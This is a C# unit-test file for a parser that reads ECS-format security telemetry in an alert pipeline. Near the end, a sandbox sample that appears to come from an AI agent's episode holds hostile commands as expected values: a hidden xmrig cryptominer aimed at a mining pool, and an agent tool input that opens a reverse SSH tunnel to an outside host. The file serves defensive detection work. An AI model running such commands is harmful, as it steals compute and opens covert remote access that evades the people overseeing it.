using System.Text;
using AlertPipeline.Core.Events;
using AlertPipeline.Core.Ingest.Formats;
using static AlertPipeline.Core.Tests.Ingest.IngestTestKit;

namespace AlertPipeline.Core.Tests.Ingest.Formats;

public sealed class EcsFormatTests
{
    private static readonly EcsFormat Format = new();

    [Theory]
    [InlineData("{\"a\":1}", true)]
    [InlineData("  \n\t[{}]", true)]
    [InlineData("\uFEFF{}", true)]
    [InlineData("hello", false)]
    [InlineData("", false)]
    [InlineData("   ", false)]
    public void CanParse_sniffs_first_significant_byte(string body, bool expected)
        => Assert.Equal(expected, Format.CanParse(Encoding.UTF8.GetBytes(body)));

    [Fact]
    public void Nested_object_becomes_one_event_with_normalized_time()
    {
        var batch = Parse(Format, """{"@timestamp":"2025-11-14T04:20:00+01:00","destination":{"ip":"203.0.113.7","port":3333},"process":{"parent":{"pid":12}}}""");

        Assert.Empty(batch.Rejects);
        Assert.Equal(1, batch.Count);
        Assert.Equal(new DateTimeOffset(2025, 11, 14, 3, 20, 0, TimeSpan.Zero), batch.Timestamp(0));
        Assert.Equal("2025-11-14T03:20:00.0000000Z", batch.Value(0, EcsField.Timestamp));
        Assert.Equal("203.0.113.7", batch.Value(0, EcsField.DestinationIp));
        Assert.Equal("3333", batch.Value(0, EcsField.DestinationPort));
        Assert.Equal("12", batch.Value(0, EcsField.ProcessParentPid));
        Assert.Equal(At(0), batch.Position(0));
        Assert.Equal("ecs", batch.FormatOf(0));
    }

    [Fact]
    public void Dotted_nested_and_mixed_keys_resolve_to_the_same_fields()
    {
        var batch = Parse(Format, """
            {"@timestamp":"2025-11-14T03:20:00Z","destination.ip":"198.51.100.1"}
            {"@timestamp":"2025-11-14T03:20:00Z","destination":{"ip":"198.51.100.1"}}
            {"@timestamp":"2025-11-14T03:20:00Z","process":{"parent.name":"bash"},"dns":{"question.name":"a.example"}}
            """);

        Assert.Equal(3, batch.Count);
        Assert.Equal("198.51.100.1", batch.Value(0, EcsField.DestinationIp));
        Assert.Equal("198.51.100.1", batch.Value(1, EcsField.DestinationIp));
        Assert.Equal("bash", batch.Value(2, EcsField.ProcessParentName));
        Assert.Equal("a.example", batch.Value(2, EcsField.DnsQuestionName));
    }

    [Fact]
    public void Time_without_offset_is_utc()
    {
        var batch = Parse(Format, """{"@timestamp":"2025-11-14T03:20:00.123"}""");

        Assert.Equal(new DateTimeOffset(2025, 11, 14, 3, 20, 0, 123, TimeSpan.Zero), batch.Timestamp(0));
    }

    [Fact]
    public void Scalars_keep_their_text_and_null_is_absent()
    {
        var batch = Parse(Format, """{"@timestamp":"2025-11-14T03:20:00Z","gpu.utilization":98.50,"gpu.index":0,"process.pid":-1e3,"user.name":null,"event.severity":true,"host.name":""}""");

        Assert.Equal("98.50", batch.Value(0, EcsField.GpuUtilization));
        Assert.Equal("0", batch.Value(0, EcsField.GpuIndex));
        Assert.Equal("-1e3", batch.Value(0, EcsField.ProcessPid));
        Assert.Equal("true", batch.Value(0, EcsField.EventSeverity));
        Assert.False(batch.Has(0, EcsField.UserName));
        Assert.True(batch.Has(0, EcsField.HostName));
        Assert.Equal(string.Empty, batch.Value(0, EcsField.HostName));
    }

    [Fact]
    public void Arrays_keep_the_first_scalar_and_unknown_fields_are_ignored()
    {
        var batch = Parse(Format, """
            {"@timestamp":"2025-11-14T03:20:00Z","event":{"category":["network","host"],"type":[null,"start"]},
             "tags":["a",{"b":1}],"labels":{"x":"y"},"event.original":"ignored","unknown":{"deep":{"er":[1,2,[3]]}},
             "host.ip":[{"nested":1},"10.0.0.1"]}
            """);

        Assert.Empty(batch.Rejects);
        Assert.Equal("network", batch.Value(0, EcsField.EventCategory));
        Assert.Equal("start", batch.Value(0, EcsField.EventType));
        Assert.Equal("10.0.0.1", batch.Value(0, EcsField.HostIp));
    }

    [Fact]
    public void Enrichment_only_fields_are_never_taken_from_telemetry()
    {
        var batch = Parse(Format, """{"@timestamp":"2025-11-14T03:20:00Z","destination":{"ip":"169.254.169.254","address_class":"public"},"sandbox":{"id":"s1","team":"trusted","owner":"x","environment":"prod"}}""");

        Assert.Equal("s1", batch.Value(0, EcsField.SandboxId));
        Assert.False(batch.Has(0, EcsField.DestinationAddressClass));
        Assert.False(batch.Has(0, EcsField.SandboxTeam));
        Assert.False(batch.Has(0, EcsField.SandboxOwner));
        Assert.False(batch.Has(0, EcsField.SandboxEnvironment));
    }

    [Fact]
    public void Escaped_strings_are_unescaped()
    {
        var batch = Parse(Format, """{"@timestamp":"2025-11-14T03:20:00Z","process":{"command_line":"sh -c \"echo caf\u00e9\"\ttab\\slash \ud83d\ude00"},"h\u006fst":{"name":"esc-key"}}""");

        Assert.Equal("sh -c \"echo café\"\ttab\\slash 😀", batch.Value(0, EcsField.ProcessCommandLine));
        Assert.Equal("esc-key", batch.Value(0, EcsField.HostName));
    }

    [Fact]
    public void Array_body_gives_one_event_per_object_and_rejects_non_objects()
    {
        var batch = Parse(Format, """[{"@timestamp":"2025-11-14T03:20:00Z","host.name":"a"}, 42, ["x"], {"@timestamp":"2025-11-14T03:20:01Z","host.name":"b"}]""");

        Assert.Equal(2, batch.Count);
        Assert.Equal("a", batch.Value(0, EcsField.HostName));
        Assert.Equal(At(0), batch.Position(0));
        Assert.Equal("b", batch.Value(1, EcsField.HostName));
        Assert.Equal(At(3), batch.Position(1));
        Assert.Equal(["not-an-object", "not-an-object"], batch.Rejects.Select(r => r.Reason));
        Assert.Equal([At(1), At(2)], batch.Rejects.Select(r => r.Position));
    }

    [Fact]
    public void Array_syntax_error_rejects_the_rest_and_keeps_earlier_records()
    {
        var batch = Parse(Format, """[{"@timestamp":"2025-11-14T03:20:00Z","host.name":"a"},{"@timestamp":"2025-11-14T03:20:01Z","host.name":"b" "oops"},{"@timestamp":"2025-11-14T03:20:02Z"}]""");

        Assert.Equal(1, batch.Count);
        Assert.Equal("a", batch.Value(0, EcsField.HostName));
        var reject = Assert.Single(batch.Rejects);
        Assert.Equal("malformed-json", reject.Reason);
        Assert.Equal(At(1), reject.Position);
        Assert.Contains("after 1 records", reject.Detail);
        Assert.StartsWith("{\"@timestamp\":\"2025-11-14T03:20:01Z\"", reject.Excerpt);
    }

    [Fact]
    public void Unclosed_array_is_rejected()
    {
        var batch = Parse(Format, """[{"@timestamp":"2025-11-14T03:20:00Z"}""");

        Assert.Equal(1, batch.Count);
        Assert.Equal("malformed-json", Assert.Single(batch.Rejects).Reason);
    }

    [Fact]
    public void Json_lines_reject_only_the_bad_line()
    {
        var body = "{\"@timestamp\":\"2025-11-14T03:20:00Z\",\"host.name\":\"a\"}\r\n"
            + "{\"@timestamp\":\"2025-11-14T03:20:01Z\",\"host.name\":\"b\"\n"
            + "\n"
            + "   \n"
            + "{\"@timestamp\":\"2025-11-14T03:20:02Z\",\"host.name\":\"c\"} trailing\n"
            + "[1]\n"
            + "{\"host.name\":\"no-time\"}\n"
            + "{\"@timestamp\":\"yesterday\"}\n"
            + "{\"@timestamp\":1731554400}\n"
            + "{\"@timestamp\":\"2025-11-14T03:20:03Z\",\"host.name\":\"d\"}";

        var batch = Parse(Format, body);

        Assert.Equal(["a", "d"], Enumerable.Range(0, batch.Count).Select(i => batch.Value(i, EcsField.HostName)));
        Assert.Equal(At(0), batch.Position(0));
        Assert.Equal(At(7), batch.Position(1));
        Assert.Equal(
            [("malformed-json", 1), ("malformed-json", 2), ("not-an-object", 3), ("missing-timestamp", 4), ("bad-timestamp", 5), ("bad-timestamp", 6)],
            batch.Rejects.Select(r => (r.Reason, r.Position.Record)));
        Assert.Equal("{\"host.name\":\"no-time\"}", batch.Rejects[3].Excerpt);
    }

    [Fact]
    public void Pretty_printed_object_and_concatenated_objects_parse()
    {
        var batch = Parse(Format, """
            {
              "@timestamp": "2025-11-14T03:20:00Z",
              "sandbox": { "id": "sbx-1" }
            }
            {
              "@timestamp": "2025-11-14T03:20:01Z",
              "sandbox": { "id": "sbx-2" }
            }
            """);

        Assert.Empty(batch.Rejects);
        Assert.Equal(2, batch.Count);
        Assert.Equal("sbx-2", batch.Value(1, EcsField.SandboxId));
        Assert.Equal(At(1), batch.Position(1));
    }

    [Fact]
    public void Rejected_event_leaves_no_partial_values()
    {
        var batch = Parse(Format, """
            {"host.name":"half","process.command_line":"written"}
            {"@timestamp":"2025-11-14T03:20:00Z"}
            """);

        Assert.Equal(1, batch.Count);
        Assert.False(batch.Has(0, EcsField.HostName));
        Assert.False(batch.Has(0, EcsField.ProcessCommandLine));
    }

    [Fact]
    public void Deep_nesting_is_rejected_without_throwing()
    {
        var deep = "{\"@timestamp\":\"2025-11-14T03:20:00Z\",\"x\":" + string.Concat(Enumerable.Repeat("{\"a\":", 5000)) + "1" + new string('}', 5001);
        var batch = Parse(Format, deep + "\n{\"@timestamp\":\"2025-11-14T03:20:00Z\"}");

        Assert.Equal(1, batch.Count);
        var reject = Assert.Single(batch.Rejects);
        Assert.Equal("malformed-json", reject.Reason);
        Assert.True(reject.Excerpt.Length <= RejectedEvent.MaxExcerptBytes + 1);
    }

    [Fact]
    public void Huge_string_is_cut_to_the_value_limit()
    {
        var huge = new string('A', 500_000);
        var batch = Parse(Format, $"{{\"@timestamp\":\"2025-11-14T03:20:00Z\",\"process.command_line\":\"{huge}\",\"{huge}\":\"long key\",\"host.name\":\"h\"}}");

        Assert.Equal(1, batch.Count);
        Assert.Equal(JsonValues.MaxValueChars, batch.Get(0, EcsField.ProcessCommandLine).Length);
        Assert.Equal("h", batch.Value(0, EcsField.HostName));
    }

    [Fact]
    public void Invalid_utf8_is_rejected_and_the_next_line_parses()
    {
        var bad = Encoding.UTF8.GetBytes("{\"@timestamp\":\"2025-11-14T03:20:00Z\",\"host.name\":\"X\"}\n{\"@timestamp\":\"2025-11-14T03:20:01Z\",\"host.name\":\"ok\"}");
        bad[Array.IndexOf(bad, (byte)'X')] = 0xFF;
        var lone = Parse(Format, """{"@timestamp":"2025-11-14T03:20:00Z","user.name":"\ud800"}""");

        var batch = Parse(Format, bad);

        Assert.Equal(1, batch.Count);
        Assert.Equal("ok", batch.Value(0, EcsField.HostName));
        Assert.Contains(batch.Rejects, r => r.Position == At(0) && r.Reason is "invalid-utf8" or "malformed-json");
        Assert.Equal(0, lone.Count);
        Assert.Equal("invalid-utf8", Assert.Single(lone.Rejects).Reason);
    }

    [Theory]
    [InlineData("{")]
    [InlineData("{\"@timestamp\":")]
    [InlineData("{\"a\":tru}")]
    [InlineData("{'a':1}")]
    [InlineData("{\"a\":1,}")]
    [InlineData("[")]
    [InlineData("[{},")]
    [InlineData("{\"@timestamp\":\"2025-11-14T03:20:00Z\"}}")]
    [InlineData("\u0000")]
    [InlineData("   ")]
    public void Junk_bodies_are_rejected_never_thrown(string body)
    {
        var batch = Parse(Format, body);

        Assert.Equal(0, batch.Count);
        Assert.NotEmpty(batch.Rejects);
        Assert.All(batch.Rejects, r => Assert.Equal("ecs", r.Format));
    }

    [Fact]
    public void Zero_time_is_bad_not_a_crash()
    {
        var batch = Parse(Format, """{"@timestamp":"0001-01-01T00:00:00Z"}""");

        Assert.Equal("bad-timestamp", Assert.Single(batch.Rejects).Reason);
    }

    [Fact]
    public void Sandbox_sample_covers_every_event_kind()
    {
        var batch = Parse(Format, Sample("Ecs/sandbox-events.jsonl"));

        Assert.Empty(batch.Rejects);
        Assert.Equal(6, batch.Count);
        Assert.Equal("process", batch.Value(0, EcsField.EventCategory));
        Assert.Equal("start", batch.Value(0, EcsField.EventType));
        Assert.Equal("/tmp/.x/xmrig -o stratum+tcp://198.51.100.44:3333 -u agent", batch.Value(0, EcsField.ProcessCommandLine));
        Assert.Equal("4100", batch.Value(0, EcsField.ProcessParentPid));
        Assert.Equal("ep-9", batch.Value(0, EcsField.SandboxEpisodeId));
        Assert.Equal("egress", batch.Value(1, EcsField.NetworkDirection));
        Assert.Equal("22", batch.Value(1, EcsField.DestinationPort));
        Assert.Equal("pool.example-mining.test", batch.Value(2, EcsField.DnsQuestionName));
        Assert.Equal("gpu.metrics", batch.Value(3, EcsField.EventDataset));
        Assert.Equal("98.5", batch.Value(3, EcsField.GpuUtilization));
        Assert.Equal("40960", batch.Value(3, EcsField.GpuMemoryUsed));
        Assert.Equal("call-0001", batch.Value(4, EcsField.ToolCallId));
        Assert.Equal("ssh -R 2222:localhost:22 x@203.0.113.66", batch.Value(4, EcsField.ToolInput));
        Assert.Equal("sandbox.heartbeat", batch.Value(5, EcsField.EventDataset));
    }
}
